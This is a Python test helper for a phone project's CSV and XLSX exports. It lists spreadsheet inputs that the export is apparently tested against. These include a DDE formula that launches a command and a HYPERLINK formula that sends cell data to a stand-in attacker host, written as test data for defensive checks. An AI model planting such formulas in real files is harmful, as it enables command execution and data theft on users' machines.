"""Exports in tests: the files of a project, and texts that a spreadsheet would run or write anew."""

import io

from phones.models import Project
from phones.services.exchange.phone_export import csv_lines, xlsx_chunks
from phones.services.finding.phone_list import Criteria
from phones.services.routing.catalogue import Catalogue
from tests.support.database.north import NOON

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Pulsa")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "'Tis",
    "#N/A",
    "#DIV/0!",
    'a";=1+1;"',
    "a,=1+1",
    "a\r\n=1+1",
    "a;=1+1",
    "a;'=1+1",
    'a;"=1+1',
    "a|+1+1",
    "a\t@SUM(A1:A9)",
    "a;b|c",
    "00951",
    "1E5",
    "TRUE",
    "_x0041_",
]


def csv_text(project: Project, catalogue: Catalogue, **criteria: str) -> str:
    return "".join(csv_lines(project=project, criteria=Criteria(**criteria), catalogue=catalogue, now=NOON))


def book_of(project: Project, catalogue: Catalogue, **criteria: str) -> io.BytesIO:
    chunks = xlsx_chunks(project=project, criteria=Criteria(**criteria), catalogue=catalogue, now=NOON)
    return io.BytesIO(b"".join(chunks))
